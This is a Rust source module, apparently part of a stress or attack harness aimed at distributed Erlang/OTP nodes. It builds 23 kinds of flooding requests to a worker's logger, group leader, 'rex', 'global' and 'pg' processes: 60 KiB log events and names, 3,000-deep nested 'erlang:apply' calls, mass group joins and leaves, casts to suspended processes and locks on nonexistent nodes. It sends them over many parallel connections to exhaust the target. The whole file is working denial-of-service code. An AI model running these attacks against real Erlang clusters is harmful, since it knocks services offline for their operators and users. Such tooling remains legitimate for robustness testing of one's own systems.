//! Requests to the processes of a worker that serve its peers: the logger, the group leader, `rex`, `global` and `pg`.

use std::time::Instant;

use peerl_node::{Atom, Term};

use super::Attack;
use super::attacker::{Attacker, Reading, head};
use super::fragments::to_name;
use super::tables::fill;

/// The bytes of large texts and names.
const LARGE: usize = 60 << 10;

/// More than come through.
const MOST: u32 = 1_000_000;

/// What is sent, each with a number of its own.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Request {
    /// A log event of 60 KiB. The attacker's node is asked to format it, and does not answer.
    LogEvent,
    /// A log event of 60 KiB from a node that is not there, so that it is shown unformatted.
    LogEventOfNobody,
    /// Text of 60 KiB for the group leader.
    PutChars,
    /// The same, which the attacker's node is asked to format. It does not answer.
    PutFormatted,
    /// A question to `rex` for the features of the node.
    Features,
    /// A call by a message to `rex`, as C nodes make it.
    OldCall,
    /// A lock of `global` on a resource with a name of 60 KiB.
    SetLock,
    /// A call that registers a process of the attacker in `global`, by a name of 60 KiB.
    RegisterName,
    /// A scope process of `pg` makes itself known.
    Discover,
    /// A process of the attacker joins a new group.
    Join,
    /// The same with a name of the group of 60 KiB.
    JoinLarge,
    /// 2,000 processes leave a group, 30,000 times each.
    LeaveMany,
    /// A list of 60,000 empty lists for a process that is suspended.
    CastToSuspended,
    /// A call of `global:set_lock` with an identifier of 40 KB, at 2,000 nodes that are not there.
    SetLockElsewhere,
    /// A call of `erlang:nodes` with 3,000 kinds of nodes.
    Nodes,
    /// A call of `erlang:apply`, which applies itself 3,000 times.
    Apply,
    /// A message that `rex` is to pass on to `pg`: the group leader of the worker joins a new group with a name of 60 KiB.
    JoinThroughRex,
    /// A call that has it do so.
    JoinOwn,
    /// A call that has `rex` set a lock, which lasts as long as `rex`, on a resource with a name of 60 KiB.
    LockOfRex,
    /// A call that registers the group leader of the worker by a name of 60 KiB, beside others that it has.
    NameOfOwn,
    /// The smallest question to `global`.
    Version,
    /// A process of the attacker joins the others that hold a lock of `global`.
    HoldTogether,
    /// A process of the attacker waits for the names of 300 nodes that are not there.
    SyncWithNobody,
}

impl Request {
    pub const ALL: [Self; 23] = [
        Self::LogEvent,
        Self::LogEventOfNobody,
        Self::PutChars,
        Self::PutFormatted,
        Self::Features,
        Self::OldCall,
        Self::SetLock,
        Self::RegisterName,
        Self::Discover,
        Self::Join,
        Self::JoinLarge,
        Self::LeaveMany,
        Self::CastToSuspended,
        Self::SetLockElsewhere,
        Self::Nodes,
        Self::Apply,
        Self::JoinThroughRex,
        Self::JoinOwn,
        Self::LockOfRex,
        Self::NameOfOwn,
        Self::Version,
        Self::HoldTogether,
        Self::SyncWithNobody,
    ];

    /// The registered process that takes it; none if it is the group leader, which has no name.
    fn server(self) -> Option<&'static str> {
        match self {
            Self::LogEvent | Self::LogEventOfNobody => Some("logger"),
            Self::PutChars | Self::PutFormatted => None,
            Self::Features | Self::OldCall | Self::RegisterName => Some("rex"),
            Self::SetLockElsewhere | Self::Nodes | Self::Apply => Some("rex"),
            Self::JoinThroughRex | Self::JoinOwn | Self::LockOfRex | Self::NameOfOwn => Some("rex"),
            Self::SetLock | Self::Version | Self::HoldTogether | Self::SyncWithNobody => Some("global_name_server"),
            Self::Discover | Self::Join | Self::JoinLarge | Self::LeaveMany | Self::CastToSuspended => Some("pg"),
        }
    }

    /// Whether the answers are read: else their number ends the connection.
    fn reading(self) -> Reading {
        match self {
            Self::Version | Self::HoldTogether | Self::SyncWithNobody => Reading::Read,
            _ => Reading::Unread,
        }
    }

    /// What goes before them: what unknown scope processes tell is ignored.
    fn first(self, attacker: &Attacker) -> Option<Term> {
        match self {
            Self::Join | Self::JoinLarge | Self::LeaveMany => {
                Some(Self::Discover.message(attacker, 1, &Term::nil(), &Term::nil()))
            }
            Self::CastToSuspended => {
                let from = Term::tuple([attacker.process(1).into(), 1.into()]);
                Some(Term::tuple([Term::atom("system"), from, Term::atom("suspend")]))
            }
            _ => None,
        }
    }

    /// What is the same in all of them.
    fn content(self, attacker: &Attacker) -> Term {
        let list = |count: usize, term: Term| Term::list(std::iter::repeat_n(term, count));
        match self {
            Self::LeaveMany => {
                let pids = list(2000, attacker.process(1).into());
                Term::tuple([Term::atom("leave"), attacker.process(1).into(), pids, list(30_000, 1.into())])
            }
            Self::CastToSuspended => Term::tuple([Term::atom("$gen_cast"), list(60_000, Term::nil())]),
            Self::SyncWithNobody => Term::list(nobodies(300)),
            Self::SetLockElsewhere => {
                let nodes = nobodies(2000);
                let id = Term::tuple([Term::binary(vec![b'a'; 40_000]), attacker.process(1).into()]);
                Term::list([id, Term::list(nodes), 0.into()])
            }
            Self::Nodes => Term::list([list(3000, Term::atom("connected"))]),
            Self::Apply => {
                let apply = |list: Term, _: usize| Term::list([Term::atom("erlang"), Term::atom("apply"), list]);
                let node = Term::list([Term::atom("erlang"), Term::atom("node"), Term::nil()]);
                (0..3000).fold(node, apply)
            }
            _ => Term::binary(vec![b'a'; LARGE]),
        }
    }

    /// `leader` is the group leader of the worker.
    fn message(self, attacker: &Attacker, number: u32, text: &Term, leader: &Term) -> Term {
        let (atom, tuple) = (Term::atom, |parts: &[Term]| Term::tuple(parts.iter().cloned()));
        let (one, own) = (Term::from(attacker.process(1)), Term::from(attacker.process(number)));
        let numbered = || tuple(&[number.into(), text.clone()]);
        match self {
            Self::LogEvent => log_event(text, attacker.process(number).into()),
            Self::LogEventOfNobody => {
                let mut pid = attacker.process(number);
                pid.node = Atom::from_static("nobody@127.0.0.1");
                log_event(text, pid.into())
            }
            Self::PutChars => io_request(own, number, &[atom("put_chars"), atom("unicode"), text.clone()]),
            Self::PutFormatted => {
                let arguments = Term::list([text.clone()]);
                let request = [atom("put_chars"), atom("unicode"), atom("attacker"), atom("format"), arguments];
                io_request(own, number, &request)
            }
            Self::Features => tuple(&[own, atom("features_request")]),
            Self::OldCall => old_call(own, "erlang", "node", &[]),
            Self::SetLockElsewhere => old_call(own, "global", "set_lock", text.as_list().expect("arguments")),
            Self::Nodes => old_call(own, "erlang", "nodes", text.as_list().expect("arguments")),
            Self::Apply => old_call(own, "erlang", "apply", text.as_list().expect("arguments")),
            Self::JoinThroughRex => {
                let join = gen_call(own.clone(), number, &[atom("join"), numbered(), Term::list([leader.clone()])]);
                tuple(&[own, tuple(&[atom("sbcast"), atom("pg"), join])])
            }
            Self::JoinOwn => old_call(own, "pg", "join", &[numbered(), leader.clone()]),
            Self::LockOfRex => {
                let victim = Term::list([leader.as_pid().expect("a pid").node.clone().into()]);
                old_call(own, "global", "set_lock", &[tuple(&[numbered(), 1.into()]), victim])
            }
            Self::NameOfOwn => old_call(own, "global", "re_register_name", &[numbered(), leader.clone()]),
            Self::LeaveMany | Self::CastToSuspended => text.clone(),
            Self::Version => {
                let from = tuple(&[own, number.into()]);
                tuple(&[atom("$gen_call"), from, atom("get_protocol_version")])
            }
            Self::HoldTogether => gen_call(own, number, &[atom("set_lock"), tuple(&[1.into(), 1.into()])]),
            Self::SyncWithNobody => gen_call(own, number, &[atom("sync"), text.clone()]),
            Self::SetLock => gen_call(own, number, &[atom("set_lock"), tuple(&[numbered(), one])]),
            Self::RegisterName => old_call(own.clone(), "global", "register_name", &[numbered(), own]),
            Self::Discover => tuple(&[atom("discover"), own]),
            Self::Join => tuple(&[atom("join"), one, number.into(), Term::list([own])]),
            Self::JoinLarge => tuple(&[atom("join"), one, numbered(), Term::list([own])]),
        }
    }
}

/// Nodes that are not there.
fn nobodies(count: usize) -> impl Iterator<Item = Term> {
    (0..count).map(|number| Term::Atom(Atom::new(&format!("n{number}@127.0.0.1")).expect("a name")))
}

/// As many as come through. Where the answers are not read, the worker has to keep or to drop them.
pub fn requests(request: Request, connections: usize) -> Attack {
    let name = format!("{request:?}, {connections} connections");
    Attack::new(name, move |target, end| {
        let mut scout = Attacker::connect(target);
        let leader = scout.group_leader(end);
        let send = move |attacker: &mut Attacker, end| send(attacker, request, &leader, end);
        let attack = Attack::side_by_side("", connections, request.reading(), send);
        attack.run(target, end.saturating_duration_since(Instant::now()))
    })
}

fn send(attacker: &mut Attacker, request: Request, leader: &Option<Term>, end: Instant) {
    let to_server = |attacker: &Attacker| match (request.server(), leader) {
        (Some(name), _) => to_name(attacker, 1, name),
        (None, Some(leader)) => Term::tuple([22.into(), attacker.process(1).into(), leader.clone()]),
        (None, None) => panic!("the worker tells its group leader"),
    };
    if let Some(message) = request.first(attacker) {
        attacker.intruder.frame(to_server(attacker), Some(message));
    }
    let text = request.content(attacker);
    let own = leader.clone().unwrap_or_else(Term::nil);
    fill(attacker, MOST, end, |attacker, number| {
        let payload = request.message(attacker, number, &text, &own).encode();
        let mut frame = head(&to_server(attacker), payload.len() - 1);
        frame.extend_from_slice(&payload[1..]);
        frame
    });
    attacker.wait(end);
}

/// `{log, Level, String, Metadata}`, as OTP's `logger` sends it to the node of the group leader.
fn log_event(text: &Term, pid: Term) -> Term {
    let metadata = Term::map([(Term::atom("pid"), pid)]);
    Term::tuple([Term::atom("log"), Term::atom("error"), text.clone(), metadata])
}

fn io_request(from: Term, number: u32, request: &[Term]) -> Term {
    Term::tuple([Term::atom("io_request"), from, number.into(), Term::tuple(request.iter().cloned())])
}

fn old_call(from: Term, module: &'static str, function: &'static str, arguments: &[Term]) -> Term {
    let arguments = Term::list(arguments.iter().cloned());
    let call = [Term::atom("call"), Term::atom(module), Term::atom(function), arguments, Term::atom("user")];
    Term::tuple([from, Term::tuple(call)])
}

fn gen_call(from: Term, number: u32, request: &[Term]) -> Term {
    let from = Term::tuple([from, number.into()]);
    Term::tuple([Term::atom("$gen_call"), from, Term::tuple(request.iter().cloned())])
}

/// Connections that each have 200,000 members of groups, and take them back by a message that names none; and again.
pub fn vanishing_members(connections: usize) -> Attack {
    const GROUPS: u32 = 200;
    const MEMBERS: u32 = 1000;
    Attack::together(format!("{connections} times 200,000 members that vanish"), connections, move |attacker, end| {
        let (atom, own) = (Term::atom, Term::from(attacker.process(1)));
        let pids = Term::list((0..MEMBERS).map(|number| Term::from(attacker.process(number))));
        let nothing = Term::tuple([atom("sync"), own.clone(), Term::nil()]);
        let nothing = Term::tuple([atom("$gen_cast"), nothing]);
        let frame = |attacker: &Attacker, message: Term| {
            let payload = message.encode();
            let mut frame = head(&to_name(attacker, 1, "pg"), payload.len() - 1);
            frame.extend_from_slice(&payload[1..]);
            frame
        };
        attacker.intruder.frame(to_name(attacker, 1, "pg"), Some(Term::tuple([atom("discover"), own.clone()])));
        while Instant::now() < end && !attacker.is_closed() {
            let joins = |attacker: &Attacker, number: u32| {
                frame(attacker, Term::tuple([atom("join"), own.clone(), number.into(), pids.clone()]))
            };
            fill(attacker, GROUPS, end, joins);
            attacker.write(&[&frame(attacker, nothing.clone())], end);
        }
        attacker.wait(end);
    })
}
